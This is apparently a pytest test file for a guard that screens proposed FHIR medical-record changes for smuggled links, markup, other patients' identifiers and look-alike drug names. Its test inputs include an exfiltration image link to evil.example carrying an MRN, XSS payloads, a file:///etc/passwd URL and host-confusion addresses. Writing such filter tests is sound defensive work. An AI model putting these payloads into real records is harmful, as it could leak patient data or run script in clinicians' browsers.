"""Links, unreadable attachments, other patients and disguised words in what is proposed."""

import re
from typing import Any

import pytest

from chartgate.errors import Unprocessable
from chartgate.model.proposal import Difference
from chartgate.policy.smuggling import check_smuggling

ADA = {
    "resourceType": "Patient",
    "identifier": [{"value": "MRN-4711"}],
    "name": [{"family": "Lovelace", "given": ["Ada", "B"]}],
    "telecom": [{"value": "+1 (555) 010-9999"}],
}
BOB = {
    "resourceType": "Patient",
    "identifier": [{"value": "MRN-0815"}],
    "name": [{"family": "Lovelace", "given": ["Bob"]}],
}
BODIES: dict[str, dict[str, Any]] = {"Patient/a": ADA, "Patient/b": BOB}


def check(text: Any, *, path: str = "note[0].text", about: str | None = "Patient/b") -> None:
    difference = Difference(reference="Task/1", path=path, before=None, after=text)
    check_smuggling([difference], about, BODIES)


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=MRN)",
        "see HTTPS://evil.example",
        "[x](//evil.example/a)",
        "[x] (evil)",
        "//evil.example/x",
        "www.evil.example",
        "javascript:alert(1)",
        "JavaScript :alert(1)",
        "data:text/html,x",
        "<img src=x onerror=alert(1)>",
        "<script>",
        "</div>",
        "<!-- x",
        "<svg/onload=x>",
        "&#106;avascript",
        "ｈｔｔｐｓ：//evil.example",
        "file:///etc/passwd",
        "mailto:x@evil.example",
        "https%3A%2F%2Fevil.example",
    ],
)
def test_link_or_markup_is_refused(text: str) -> None:
    with pytest.raises(Unprocessable, match="link or markup"):
        check(text)


@pytest.mark.parametrize(
    "text",
    [
        "BP <120 and >80; temp < normal",
        "Data: none. File: none.",
        "and/or 1/2 tablet, 20:30",
        "ratio a:b, [see above], (twice)",
        "Ω µ naïve Müller",
        "Привет",
    ],
)
def test_words_of_a_note_pass(text: str) -> None:
    check(text)
    check(text, path="code.text")


def test_name_in_the_form_of_an_address_passes_where_FHIR_has_one() -> None:
    check("http://loinc.org", path="type.coding[0].system")
    check("http://hl7.org/x", path="extension[0].url")
    for path in ("content[0].attachment.url", "subject.reference", "code.coding[0].display"):
        with pytest.raises(Unprocessable):
            check("https://evil.example/?q=1", path=path)


def test_link_that_stood_there_before_is_not_held_against_another_change() -> None:
    old = "see https://hospital.example"
    difference = Difference(reference="Task/1", path="x", before=old, after=old + ", twice")
    check_smuggling([difference], None, {})


@pytest.mark.parametrize(
    "kind", ["text/html", "application/pdf", "image/svg+xml", "text/plain+x", "text/plain;x=y"]
)
def test_attachment_that_nobody_can_review_is_refused(kind: str) -> None:
    with pytest.raises(Unprocessable, match="text/plain"):
        check(kind, path="content[0].attachment.contentType")


@pytest.mark.parametrize("kind", ["text/plain", "text/plain; charset=utf-8"])
def test_plain_text_passes(kind: str) -> None:
    check(kind, path="content[0].attachment.contentType")


@pytest.mark.parametrize(
    "text",
    ["MRN-4711", "id mrn-4711.", "ＭＲＮ-4711", "call 15550109999", "1 555 010 9999",
     "Ada Lovelace", "Lovelace, Ada"],
)  # fmt: skip
def test_identity_of_another_patient_is_refused(text: str) -> None:
    with pytest.raises(Unprocessable, match="another patient") as caught:
        check(text)
    assert "Lovelace" not in str(caught.value)
    check(text, about="Patient/a")
    with pytest.raises(Unprocessable):
        check(text, about=None)


@pytest.mark.parametrize("text", ["Bob Lovelace", "Lovelace", "Ada", "MRN-0815", "4711"])
def test_own_identity_and_parts_of_a_name_pass(text: str) -> None:
    check(text)


@pytest.mark.parametrize(
    "text", ["Wаrfarin", "Ｗarfarin", "War\u200bfarin", "\u202eniraf", "Μorphine"]
)
def test_disguised_word_is_refused(text: str) -> None:
    with pytest.raises(Unprocessable, match="look alike"):
        check(text, path="medicationCodeableConcept.coding[0].display")


@pytest.mark.parametrize("value", [1, True, None, 2.5])
def test_what_is_no_text_passes(value: Any) -> None:
    check(value)


def met(text: str, about: str = "Patient/b", before: Any = None, **other: Any) -> bool:
    """Whether the text passes where the interaction has met Bob and one other patient."""
    bodies = {"Patient/b": BOB, "Patient/o": {"resourceType": "Patient", **other}}
    difference = Difference(reference="Task/1", path="note[0].text", before=before, after=text)
    try:
        check_smuggling([difference], about, bodies)
    except Unprocessable:
        return False
    return True


@pytest.mark.parametrize(
    ("other", "text"),
    [
        ({"identifier": [{"value": "A123"}]}, "see a123"),
        ({"telecom": [{"value": "010-9999"}]}, "call 0109999"),
        ({"name": [{"family": "Lovelace", "given": ["Ada"]}]}, "Ada Lovelace"),
    ],
)
def test_one_identity_of_another_patient_is_enough(other: dict[str, Any], text: str) -> None:
    assert not met(text, **other)
    assert met(text, about="Patient/o", **other)
    assert met(text)
    assert met(text + ", twice", before=text, **other)  # it stood there already


@pytest.mark.parametrize(
    ("other", "text"),
    [
        ({"identifier": [{"value": "123"}, {"value": 4711}, {}, "MRN-1"]}, "123 4711 MRN-1"),
        ({"identifier": "MRN-1"}, "MRN-1"),
        ({"telecom": [{"value": "10-9999"}, {"value": None}, {"system": "phone"}]}, "call 109999"),
        ({"name": [{"family": "Ada", "given": ["Ada"]}]}, "Ada"),
        ({"name": [{"family": "Lovelace"}, {"given": ["Ada"]}]}, "Ada Lovelace"),
        ({"name": [{"family": "Lovelace", "given": []}]}, "Lovelace"),
        ({"name": [{"family": "Lovelace", "given": "Ada"}]}, "A Lovelace"),
        ({"name": [{"family": 7, "given": ["Ada"]}]}, "Ada 7"),
        ({"name": [{"family": "Lovelace", "given": [7]}]}, "Lovelace 7"),
    ],
)
def test_what_is_too_short_or_no_identity_is_none(other: dict[str, Any], text: str) -> None:
    assert met(text, **other)


@pytest.mark.parametrize(
    ("shared", "text"),
    [
        ({"identifier": BOB["identifier"]}, "MRN-0815"),
        ({"name": BOB["name"]}, "Bob Lovelace"),
    ],
)
def test_identity_that_both_have_is_the_patients_own(shared: dict[str, Any], text: str) -> None:
    assert met(text, **shared)
    assert not met(text, about="Patient/x", **shared)


def test_letters_without_a_name_are_of_no_alphabet() -> None:
    check("\U00017000\U00017001 Warfarin", path="code.text")


OBSERVATION = {"resourceType": "Observation", "id": "1", "subject": {"reference": "Patient/b"}}


@pytest.mark.parametrize(
    ("reference", "about", "finding"),
    [
        ("Patient/b", "Patient/b", None),
        ("Patient/a", "Patient/b", "refers to another patient than the one whom it is about"),
        ("Patient/nobody", "Patient/b", "refers to another patient"),
        ("Patient/a", None, None),  # it is about nobody, and so about whom it names
        ("Observation/1", "Patient/b", None),
        ("Observation/1", "Patient/a", "refers to what belongs to another patient"),
        ("Observation/1", None, None),
        ("Observation/unread", "Patient/a", None),
        ("Practitioner/1", "Patient/a", None),
    ],
)
@pytest.mark.parametrize("path", ["reference", "focus.reference", "partOf[0].reference"])
def test_reference_leads_to_the_same_patient_or_to_none(
    path: str, reference: str, about: str | None, finding: str | None
) -> None:
    bodies: dict[str, dict[str, Any]] = {
        "Observation/1": OBSERVATION,
        "Practitioner/1": {"resourceType": "Practitioner", "id": "1"},
    }
    difference = Difference(reference="Task/1", path=path, before=None, after=reference)
    if finding is None:
        check_smuggling([difference], about, bodies)
        return
    with pytest.raises(Unprocessable, match=f"^Task/1: {re.escape(path)}: it {finding}"):
        check_smuggling([difference], about, bodies)


def test_only_what_is_a_reference_is_looked_at_as_one() -> None:
    for path, after in (("display", "Patient/a"), ("preference", "Patient/a"), ("reference", 7)):
        difference = Difference(reference="Task/1", path=path, before=None, after=after)
        check_smuggling([difference], "Patient/b", {})


OURS = ("https://forms.example/f/", "https://a.example/")


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("see https://forms.example/f/7", True),
        ("https://forms.example/f/", True),
        ("https://forms.example/f/7/a-b_c~d/, then call", True),
        ("(see https://a.example/)", True),
        ("see (https://a.example/).", False),
        ("https://forms.example/f/7; https://a.example/x.", True),
        ("https://forms.example/f/7?q=1", False),
        ("https://forms.example/f/7#x", False),
        ("https://forms.example/f/7.x?q=1", False),
        ("https://forms.example/f/7:x?q=1", False),
        ("https://forms.example/f/7)x?q=1", False),
        ("https://forms.example/f/../x", False),
        ("https://a.example/.evil.example/x", False),
        ("https://a.example.evil.example/x", False),
        ("xhttps://a.example/", False),
        ("https://a.example/ https://evil.example", False),
        ("https://other.example/", False),
    ],
)
def test_address_that_the_charter_lets_stand_carries_nothing_along(text: str, passes: bool) -> None:
    difference = Difference(reference="Task/1", path="note[0].text", before=None, after=text)
    with pytest.raises(Unprocessable, match="link or markup"):
        check_smuggling([difference], None, {})
    if passes:
        check_smuggling([difference], None, {}, links=OURS)
        return
    with pytest.raises(Unprocessable, match="link or markup"):
        check_smuggling([difference], None, {}, links=OURS)


PORTAL = ("https://portal.example.org/",)


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("see https://portal.example.org/visits/7", True),
        ("see https://portal.example.org/.", True),
        ("https://portal.example.org/a, https://portal.example.org/b", True),
        ("https://portal.example.org/?q=PHI", False),
        ("https://portal.example.org/a#x", False),
        ("https://portal.example.org.evil.example/a", False),
        ("https://portal.example.org@evil.example/", False),
        ("xhttps://portal.example.org/a", False),
        ("[x](https://portal.example.org/a)", False),
        ("http://portal.example.org/a", False),
        ("https://portal.example.org/a https://evil.example/", False),
    ],
)
def test_link_passes_only_where_the_charter_has_its_beginning(text: str, passes: bool) -> None:
    difference = Difference(reference="Task/1", path="note[0].text", before=None, after=text)
    with pytest.raises(Unprocessable, match="link or markup"):
        check_smuggling([difference], None, {})
    if passes:
        check_smuggling([difference], None, {}, links=PORTAL)
        return
    with pytest.raises(Unprocessable, match="link or markup"):
        check_smuggling([difference], None, {}, links=PORTAL)


def test_reference_leads_to_nothing_of_another_patient() -> None:
    bodies = {
        **BODIES,
        "Encounter/a": {"resourceType": "Encounter", "subject": {"reference": "Patient/a"}},
        "Encounter/b": {"resourceType": "Encounter", "subject": {"reference": "Patient/b"}},
        "Slot/1": {"resourceType": "Slot"},
    }

    def refer(to: str, about: str | None = "Patient/b") -> None:
        path = "context.encounter[0].reference"
        check_smuggling(
            [Difference(reference="X (new)", path=path, before=None, after=to)], about, bodies
        )

    for fine in ("Encounter/b", "Slot/1", "Patient/b", "Practitioner/9"):
        refer(fine)
    refer("Encounter/a", None)
    with pytest.raises(Unprocessable, match="belongs to another patient"):
        refer("Encounter/a")
    with pytest.raises(Unprocessable, match="another patient than the one"):
        refer("Patient/a")
